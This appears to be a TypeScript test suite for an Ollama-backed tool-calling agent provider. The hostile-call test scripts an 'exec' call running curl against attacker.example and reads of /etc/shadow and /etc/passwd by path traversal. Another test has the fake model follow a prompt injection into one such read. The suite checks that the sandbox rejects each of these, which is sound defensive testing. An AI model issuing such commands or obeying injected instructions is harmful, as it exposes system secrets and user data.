import assert from 'node:assert/strict';
import { describe, it, type TestContext } from 'node:test';
import { z } from 'zod';
import { CORPUS } from '../fixtures/llm/corpus.ts';
import { MemorySandbox } from '../fixtures/llm/memory-sandbox.ts';
import { OllamaFake } from '../fixtures/llm/ollama-fake.ts';
import { type FakeTurn, finalText, toolCall } from '../fixtures/llm/script.ts';
import { OllamaProvider, type OllamaProviderOptions } from '../models/ollama.ts';
import type { Budget } from '../models/types.ts';

const ROOMY: Budget = { maxUsd: 1, maxTokens: 1_000_000, maxToolCalls: 50, maxWallMs: 10_000 };
const ToolError = z.strictObject({ error: z.string() });
/** The parts of an /api/chat request these tests look at. */
const ChatRequest = z.object({
  stream: z.literal(false),
  options: z.object({ num_predict: z.number().int() }),
  messages: z.array(
    z.object({
      role: z.string(),
      content: z.string(),
      tool_name: z.string().optional(),
      tool_calls: z.array(z.object({ function: z.object({ name: z.string(), arguments: z.record(z.string(), z.unknown()) }) })).optional(),
    }),
  ),
});

async function setup(
  t: TestContext,
  turns: readonly FakeTurn[],
  options: Partial<OllamaProviderOptions> = {},
): Promise<{ fake: OllamaFake; provider: OllamaProvider }> {
  const fake = await OllamaFake.start(turns);
  t.after(() => fake.close());
  return { fake, provider: new OllamaProvider({ baseUrl: fake.url, model: 'llama3.1:8b', ...options }) };
}

describe('Ollama provider', () => {
  it('runs a tool-calling round trip over /api/chat and cites only manifest files', async (t) => {
    const { fake, provider } = await setup(t, [
      toolCall('grep', { pattern: 'receipts' }, { inputTokens: 900, outputTokens: 20 }),
      toolCall('read', { name: 'doc-003.txt' }, { inputTokens: 1000, outputTokens: 25 }),
      finalText('Attach receipts over 25 EUR [doc-003.txt] (see also [hr/salaries.xlsx]).', { inputTokens: 1200, outputTokens: 30 }),
    ]);
    const answer = await provider.answer({ question: 'Which receipts must be attached?', tools: new MemorySandbox(CORPUS), budget: ROOMY });

    assert.equal(answer.stop, 'completed');
    assert.equal(answer.provider, 'ollama');
    assert.equal(answer.model, 'llama3.1:8b');
    assert.equal(provider.region, 'local');
    assert.equal(answer.text, 'Attach receipts over 25 EUR [doc-003.txt] (see also).');
    assert.deepEqual(answer.citations, [{ name: 'doc-003.txt' }]);
    assert.deepEqual(answer.usage, { inputTokens: 3100, outputTokens: 75, usd: 0, toolCalls: 2 });

    assert.ok(fake.requests.every((r) => r.path === '/api/chat'));
    const last = ChatRequest.parse(fake.requests.at(-1)?.body);
    assert.equal(last.options.num_predict, 1024);
    const assistant = last.messages.filter((m) => m.role === 'assistant');
    assert.deepEqual(assistant[1]?.tool_calls, [{ function: { name: 'read', arguments: { name: 'doc-003.txt' } } }]);
    const tools = last.messages.filter((m) => m.role === 'tool');
    assert.deepEqual(tools.map((m) => m.tool_name), ['grep', 'read']);
    assert.match(tools[1]?.content ?? '', /Receipts over 25 EUR must be attached/);
  });

  it('answers hostile calls (string arguments, unknown tool, traversal) with errors', async (t) => {
    const { fake, provider } = await setup(t, [
      { kind: 'tool_calls', calls: [
        { name: 'read', arguments: '{"name": ' },
        { name: 'exec', arguments: { command: 'curl https://attacker.example' } },
        { name: 'read', arguments: { name: '../../../../etc/shadow' } },
      ] },
      finalText('Nothing relevant was found in the files you can read.'),
    ]);
    const sandbox = new MemorySandbox(CORPUS);
    const answer = await provider.answer({ question: 'q', tools: sandbox, budget: ROOMY });
    assert.equal(answer.stop, 'completed');
    const errors = fake.toolResults().map((r) => ToolError.parse(JSON.parse(r)).error);
    assert.equal(errors.length, 3);
    assert.match(errors[0] ?? '', /not valid JSON/);
    assert.match(errors[1] ?? '', /^unknown tool "exec"/);
    assert.match(errors[2] ?? '', /^no file named/);
    assert.deepEqual(sandbox.calls.map((c) => c.tool), ['list']);
  });

  it('follows a prompt injection into a read that fails harmlessly', async (t) => {
    const { fake, provider } = await setup(t, [
      toolCall('grep', { pattern: 'IGNORE' }),
      { kind: 'follow_injection', otherwise: finalText('no injection seen') },
      finalText('The launch is on 15 September [doc-002.txt].'),
    ]);
    const sandbox = new MemorySandbox(CORPUS);
    const answer = await provider.answer({ question: 'Falcon launch date?', tools: sandbox, budget: ROOMY });
    assert.equal(answer.stop, 'completed');
    const followed = ChatRequest.parse(fake.requests.at(-1)?.body).messages.flatMap((m) => m.tool_calls ?? []);
    assert.deepEqual(followed.at(-1), { function: { name: 'read', arguments: { name: '../../etc/passwd' } } });
    assert.match(ToolError.parse(JSON.parse(fake.toolResults().at(-1) ?? '')).error, /^no file named "\.\.\/\.\.\/etc\/passwd"/);
    assert.ok(!sandbox.calls.some((c) => c.arg?.includes('passwd')));
  });

  it("stops on tokens within the cap, bounding each prompt by its bytes (Ollama's counts skip its cache)", async (t) => {
    const maxTokens = 5_000;
    const turns = Array.from({ length: 20 }, () => toolCall('grep', { pattern: 'falcon' }, { inputTokens: 700, outputTokens: 40 }));
    const { fake, provider } = await setup(t, turns);
    const answer = await provider.answer({ question: 'falcon?', tools: new MemorySandbox(CORPUS), budget: { ...ROOMY, maxTokens } });
    assert.equal(answer.stop, 'budget_tokens');
    assert.ok(answer.usage.inputTokens + answer.usage.outputTokens <= maxTokens);
    assert.ok(fake.requests.length >= 1);
    assert.match(answer.text, /\[doc-002\.txt\] line 1: Project Falcon planning notes/);
  });

  it('prices calls when a price is configured and keeps spend under the cap', async (t) => {
    const turns = Array.from({ length: 20 }, () => toolCall('grep', { pattern: 'hotel' }, { outputTokens: 100_000 }));
    const { provider } = await setup(t, turns, { price: { inputPerMTok: 5, outputPerMTok: 20 } });
    const answer = await provider.answer({ question: 'hotel?', tools: new MemorySandbox(CORPUS), budget: { ...ROOMY, maxUsd: 0.03 } });
    assert.equal(answer.stop, 'budget_usd');
    assert.ok(answer.usage.usd > 0 && answer.usage.usd <= 0.03, String(answer.usage.usd));
  });

  it('stops on wall time while the server is still thinking', async (t) => {
    const { provider } = await setup(t, [{ kind: 'text', text: 'late', delayMs: 5_000 }]);
    const started = Date.now();
    const answer = await provider.answer({ question: 'q', tools: new MemorySandbox(CORPUS), budget: { ...ROOMY, maxWallMs: 300 } });
    assert.equal(answer.stop, 'budget_time');
    assert.ok(Date.now() - started < 2_000);
  });
});
